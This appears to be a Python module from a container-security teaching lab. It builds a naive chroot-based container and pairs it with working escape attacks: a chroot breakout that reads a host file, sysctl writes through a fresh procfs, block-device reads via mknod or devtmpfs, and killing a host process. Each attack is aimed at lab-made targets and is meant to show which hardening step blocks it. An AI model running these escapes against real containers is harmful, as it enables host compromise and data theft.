"""The naive DIY container of the talk, and what breaks out of it (chapter 07).

"Not tremendously difficult - ~25 lines of shell script (unshare, mount,
chroot) ... almost guaranteed to be insecure."  :func:`run` is that container
in Python: a forked child that unshares some namespaces, mounts /proc and
chroots into its own copy of the busybox rootfs, keeping every capability
root has.  Each engine step a real runtime adds is one keyword, so a notebook
can run the same attack with and without it:

=================  =====================================================
``pivot_root``     pivot_root(2) + detach the old root instead of chroot(2)
``pid_ns``         a new PID namespace (pid_namespaces(7))
``ro_proc_sys``    /proc/sys bind-mounted read-only (OCI ``readonlyPaths``)
``drop``           capabilities removed from every set (capabilities(7))
``user_ns``        a user namespace: uid/gid 0 inside is :data:`USERNS_BASE`
                   outside, 65536 ids mapped, setgroups denied (user_namespaces(7))
=================  =====================================================

The attack is a Python function run *as the container's process* after it
entered the container: the same syscalls a binary inside would make.
Every target is the lab's own: a file it wrote, a read-only loop device it
attached (auto-detached when closed), a process it started, a sysctl value it
restores.  Nothing of the host is changed or left behind.
"""
from __future__ import annotations

import errno
import json
import os
import signal
import stat
from dataclasses import dataclass
from typing import Any, Callable, NamedTuple

from . import _launch, lab, proc, rootfs as _rootfs
from ._loop import attach_loop
from ._loop import (  # noqa: F401 - names this module always had
    LO_FLAGS_AUTOCLEAR, LO_FLAGS_READ_ONLY, LOOP_CONFIGURE, LOOP_CTL_GET_FREE)
from .errors import BadInput, NeedsPrivilege

from .container_steps import USERNS_BASE, USERNS_SIZE, shift_owner  # noqa: F401 - re-exported

@dataclass
class Outcome:
    """What the attack achieved: ``ok`` with its value, or the error that stopped it."""
    ok: bool
    value: Any = None
    error: str = ""

    def __repr__(self) -> str:
        return f"worked: {self.value!r}" if self.ok else f"blocked: {self.error}"


class NaiveContainer:
    """A container's folder: its own rootfs copy plus host-side files beside it.

    ``<run_dir>/jap-<id>/rootfs`` is the container's ``/``; anything else in
    ``<run_dir>/jap-<id>/`` is *outside* the container - on the host.
    """

    def __init__(self, ident: str | None = None):
        self.name = lab.name(ident=ident)
        self.dir = os.path.join(lab.run_dir(), self.name)
        self.root = os.path.join(self.dir, "rootfs")
        self.entry: lab.Entry | None = None

    def create(self) -> "NaiveContainer":
        if os.geteuid() != 0:
            raise NeedsPrivilege("root", "a container:")
        fs = _rootfs.build("busybox")
        self.entry = lab.register("dir", self.dir, note="naive container (chapter 07)")
        os.makedirs(self.dir)
        _rootfs.extract(fs, self.root)  # tar -x, as an engine unpacks an image
        return self

    def host_file(self, name: str, text: str, mode: int = 0o600) -> str:
        """A file on the host, outside the container's root: what an escape reaches.
        Root's own and mode 0600 by default, like a secret (/etc/shadow is 0640)."""
        if not isinstance(name, str) or not name or "/" in name or name in (".", ".."):
            raise BadInput(f"host_file({name!r}): a file name without '/', e.g. 'jap-secret.txt' "
                           "(the file goes beside the container's root, in its lab folder)")
        path = os.path.join(self.dir, name)
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC, mode)
        with open(fd, "w") as f:
            os.fchmod(fd, mode)  # the umask may have taken bits away
            f.write(text)
        return path

    def run(self, attack: Callable[[], Any], **steps) -> Outcome:
        if steps.get("user_ns"):
            self.map_owner()
        return run(self.root, attack, **steps)

    def map_owner(self) -> None:
        """Give the rootfs copy to the ids root of a user namespace has outside
        (:data:`USERNS_BASE` + id), as a rootless engine unpacks its image: inside, the
        files are then root's again.  Once; root outside still owns everything by
        capability."""
        shift_owner(self.root)

    def remove(self) -> None:
        if self.entry:
            lab.remove(self.entry)
            self.entry = None

    def __enter__(self):
        return self.create()

    def __exit__(self, *exc):
        self.remove()


def _json(value):
    # What comes back is what JSON can carry (as the attacks' results were always sent).
    return json.loads(json.dumps(value, default=str))


def run(root: str, attack: Callable[[], Any], *, pivot_root: bool = False, pid_ns: bool = False,
        ro_proc_sys: bool = False, drop: tuple[str, ...] = (), user_ns: bool = False,
        timeout: float = 10.0) -> Outcome:
    """Run ``attack()`` as the process of a naive container rooted at ``root``.

    The container always gets new mount, UTS and IPC namespaces (what
    ``unshare -mui`` gives), a private copy of the mount table, a fresh /proc
    and keeps the network namespace of the host; the keywords add the engine
    steps of the module's table (``drop``: any capability names, e.g.
    ``('cap_sys_module',)``).  The attack runs bounded, in a lab cgroup of its
    own: at most 256M of memory and 64 processes.  Its return value
    (JSON-able) comes back in ``Outcome.value``; an ``OSError`` it raises comes
    back as ``Outcome.error`` ("EPERM: ...").
    """
    if os.geteuid() != 0:
        raise NeedsPrivilege("root", "a container:")
    if not os.path.isdir(os.path.join(root, "proc")):
        raise BadInput(f"{root!r} is not a root filesystem (no /proc folder in it)")
    if isinstance(drop, str):
        drop = (drop,)
    new = ("mnt", "uts", "ipc") + (("pid",) if pid_ns else ())
    prepare = None
    if user_ns:
        # The kernel creates the user namespace first and makes it the owner of the others
        # (clone(2)); root inside has every capability - over what that namespace owns.
        new += ("user",)
        if not pid_ns:
            # A procfs is mounted only by a process with CAP_SYS_ADMIN over the pid namespace
            # it shows (the host's, here): bind the host's /proc instead, as rootless
            # engines do when they share the host's PID namespace.
            def prepare(_root=root):
                from . import _libc
                _libc.mount("/proc", os.path.join(_root, "proc"), None, _libc.MS_BIND | _libc.MS_REC)
    # chroot(2) only changes how "/" is resolved for this process: the host's tree is
    # still mounted above it.  pivot_root(2) + detaching the old root leaves nothing
    # above / to climb to (the launcher does either; make / private first:
    # docs/kernel-notes.md, "Mounts and pivot_root").
    spec = _launch.Spec(
        fn=lambda: _json(attack()), new=new,
        hostname="jap-naive", root=root, pivot_root=pivot_root,
        mount_proc=not (user_ns and not pid_ns), prepare=prepare,
        readonly=("/proc/sys",) if ro_proc_sys else (), drop=tuple(drop),
        uid_map=f"0 {USERNS_BASE} {USERNS_SIZE}" if user_ns else None,
        setgroups="deny" if user_ns else None,
        cgroup="bounded", note="naive container (chapter 07)")
    try:
        r = _launch.run(spec, timeout=timeout)
    except _launch.Timeout:
        return Outcome(False, error=f"the container said nothing within {timeout:g} s (killed?)")
    if r.error is not None:
        return Outcome(False, error=f"setup failed: {r.error}")
    if isinstance(r.exception, OSError):
        name = errno.errorcode.get(r.exception.errno or 0, "E?")
        return Outcome(False, error=f"{name}: {r.exception.strerror}")
    if r.exception is not None:
        return Outcome(False, error=f"{type(r.exception).__name__}: {r.exception}")
    if r.returncode != 0:
        return Outcome(False, error=f"the container's process ended with {r.returncode}")
    return Outcome(True, value=r.value)


# --- the attacks: each runs inside the container --------------------------------------

def chroot_escape(secret: str, depth: int = 64) -> Callable[[], str]:
    """The classic chroot(2) escape: chroot into a subfolder *without* chdir,
    so the working directory is now above the root; climb with ``..``; chroot
    there.  Needs CAP_SYS_CHROOT (chroot(2), "This call does not change the
    current working directory")."""
    def attack() -> str:
        os.makedirs("/jap-escape", exist_ok=True)
        os.chroot("/jap-escape")         # cwd (/) is now outside the root
        for _ in range(depth):
            os.chdir("..")               # .. of the real / is / itself
        os.chroot(".")                   # the host's /
        with open(secret) as f:
            return f.read().strip()
    return attack


SYSCTL = "/proc/sys/kernel/printk_ratelimit_burst"


def sysctl_write(path: str = SYSCTL, value: int | None = None) -> Callable[[], int]:
    """Write a kernel-wide (not namespaced) sysctl from inside: returns the value written.

    The default target, kernel.printk_ratelimit_burst, only tunes how many
    kernel messages pass the rate limit: harmless, and :func:`restore_sysctl`
    puts the old value back (sysctl(2), Documentation/admin-guide/sysctl/kernel.rst).
    The old value is registered with the lab first (kind ``sysctl``), so that
    ``cleanup`` puts it back also after the kernel that ran the demo was killed."""
    _remember_sysctl(path)

    def attack() -> int:
        with open(path) as f:
            old = int(f.read())
        new = value if value is not None else old + 1
        with open(path, "w") as f:
            f.write(str(new))
        return new
    return attack


def sysctl_fresh_proc(path: str = SYSCTL, value: int | None = None) -> Callable[[], int]:
    """With CAP_SYS_ADMIN, a read-only /proc/sys is no block: mount a *fresh* procfs inside
    (its /proc/sys is writable) and write the sysctl through it (mount(2), proc(5)).
    The mount lives in the container's own mount namespace and goes with it."""
    _remember_sysctl(path)
    rel = os.path.relpath(path, "/proc")

    def attack() -> int:
        from . import _libc
        os.makedirs("/jap-proc", exist_ok=True)
        _libc.mount("proc", "/jap-proc", "proc", _libc.MS_NOSUID | _libc.MS_NODEV | _libc.MS_NOEXEC)
        with open(os.path.join("/jap-proc", rel)) as f:
            old = int(f.read())
        new = value if value is not None else old + 1
        with open(os.path.join("/jap-proc", rel), "w") as f:
            f.write(str(new))
        return new
    return attack


def read_sysctl(path: str = SYSCTL) -> int:
    with open(path) as f:
        return int(f.read())


def restore_sysctl(old: int, path: str = SYSCTL) -> None:
    if read_sysctl(path) != old:
        with open(path, "w") as f:
            f.write(str(old))
    for e in lab.entries():  # put back: nothing left for cleanup to restore
        if e.kind == "sysctl" and e.name == os.path.normpath(path):
            lab.unregister(e)


def remember_sysctl(path: str = SYSCTL) -> None:
    """Register a sysctl's value before a demo may change it (once: a second demo
    must not record the changed value as the one to put back); :func:`restore_sysctl`
    puts it back and forgets it, ``cleanup`` does after a killed kernel."""
    _remember_sysctl(path)


def _remember_sysctl(path: str) -> None:
    path = os.path.normpath(path)
    if os.geteuid() != 0 or any(e.kind == "sysctl" and e.name == path for e in lab.entries()):
        return
    lab.register("sysctl", path, value=str(read_sysctl(path)), note="changed by a chapter 07 demo")


def mknod_read(major: int, minor: int, nbytes: int = 64) -> Callable[[], str]:
    """mknod(2) a block device node inside the container and read its first bytes."""
    def attack() -> str:
        node = "/dev/jap-disk"
        if os.path.exists(node):
            os.unlink(node)
        os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(major, minor))
        with open(node, "rb") as f:
            return f.read(nbytes).rstrip(b"\0").decode(errors="replace")
    return attack


def devtmpfs_read(major: int, minor: int, nbytes: int = 64) -> Callable[[], str]:
    """With CAP_SYS_ADMIN, no CAP_MKNOD is no block: mount devtmpfs (the kernel's own /dev,
    holding a node for every device) and read the disk through its node - no mknod(2)."""
    def attack() -> str:
        from . import _libc
        os.makedirs("/jap-devtmpfs", exist_ok=True)
        _libc.mount("devtmpfs", "/jap-devtmpfs", "devtmpfs", _libc.MS_NOSUID | _libc.MS_NOEXEC)
        for name in os.listdir("/jap-devtmpfs"):
            node = os.path.join("/jap-devtmpfs", name)
            st = os.lstat(node)
            if stat.S_ISBLK(st.st_mode) and st.st_rdev == os.makedev(major, minor):
                with open(node, "rb") as f:
                    return f.read(nbytes).rstrip(b"\0").decode(errors="replace")
        raise FileNotFoundError(errno.ENOENT, f"no node {major}:{minor} in devtmpfs")
    return attack


class Target(NamedTuple):
    """One process to attack, named so that no other can be hit: its PID and its start
    time (proc(5), /proc/PID/stat field 22, in clock ticks since boot). A PID is
    recycled once its process is gone; the pair is never."""
    pid: int
    start: int
    cmdline: str


def kill_target(target: Target) -> Callable[[], dict]:
    """Find ``target`` in the /proc this process sees and SIGKILL it - that process only.

    pidfd_open(2) pins the process first; then its start time is compared, and
    pidfd_send_signal(2) kills what the pidfd names: a PID recycled in between
    can never be hit. In a new PID namespace the host's PID names nothing (or
    another process, whose start time differs): ESRCH.
    """
    pid, start = target.pid, target.start

    def attack() -> dict:
        seen = sum(1 for p in os.listdir("/proc") if p.isdigit())
        try:
            fd = os.pidfd_open(pid)
        except ProcessLookupError:
            fd = None
        try:
            if fd is None or proc.start_time(pid) != start:
                raise OSError(errno.ESRCH, f"no process matching PID {pid} started at tick {start} "
                                           f"among {seen} seen")
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            signal.pidfd_send_signal(fd, signal.SIGKILL)
            return {"processes seen": seen, "killed": cmd}
        finally:
            if fd is not None:
                os.close(fd)
    return attack


def start_victim(note: str = "chapter 07: the 'host' process") -> tuple["lab.LabProcess", Target]:
    """A registered host process to attack, and the :class:`Target` that names it alone."""
    argv = ["sleep", "3600"]
    victim = lab.spawn(argv, note=note)
    return victim, Target(victim.pid, victim.entry.start, " ".join(argv))


# --- a lab-made "host disk": a read-only loop device ----------------------------------

class HostDisk:
    """A read-only loop device over a lab file: a stand-in for a host disk.

    Configured with LO_FLAGS_AUTOCLEAR (loop(4)): the kernel detaches the
    device when its last user closes it - this object's fd, or this process
    when it dies - so it can never be left behind.
    """

    def __init__(self, backing: str, text: str):
        self.backing = backing
        self.text = text
        self.fd: int | None = None
        self.path = ""
        self.major = self.minor = 0
        self.entry: lab.Entry | None = None

    def attach(self) -> "HostDisk":
        if not lab.in_lab_dirs(os.path.dirname(os.path.abspath(self.backing)), netns=False):
            raise BadInput("the backing file must be in a lab folder (jap-...)")
        # Registered (by its backing file) before it exists, like every lab object;
        # autoclear makes it go even if the registry is never consulted.
        self.entry = lab.register("loop", self.backing, note="chapter 07: the 'host disk'")
        with open(self.backing, "wb") as f:
            f.write(self.text.encode().ljust(1 << 20, b"\0"))  # 1 MiB
        self.fd, self.path = attach_loop(self.backing, read_only=True)
        st = os.stat(self.path)
        self.major, self.minor = os.major(st.st_rdev), os.minor(st.st_rdev)
        return self

    def detach(self) -> None:
        if self.fd is not None:
            os.close(self.fd)  # autoclear: the last close detaches the device
            self.fd = None
        if self.entry is not None:
            lab.remove(self.entry)  # detaches it if something still held it open
            self.entry = None

    def __enter__(self):
        return self.attach()

    def __exit__(self, *exc):
        self.detach()


def loop_attached(path: str) -> bool:
    """Is a loop device bound to a file? (sysfs: /sys/block/loopN/loop/ exists only then)."""
    return os.path.isdir(f"/sys/block/{os.path.basename(path)}/loop")


__all__ = ["NaiveContainer", "Outcome", "run", "chroot_escape", "sysctl_write", "read_sysctl",
           "restore_sysctl", "remember_sysctl", "mknod_read", "sysctl_fresh_proc", "devtmpfs_read", "Target", "kill_target", "start_victim", "HostDisk", "loop_attached",
           "SYSCTL", "USERNS_BASE", "USERNS_SIZE"]
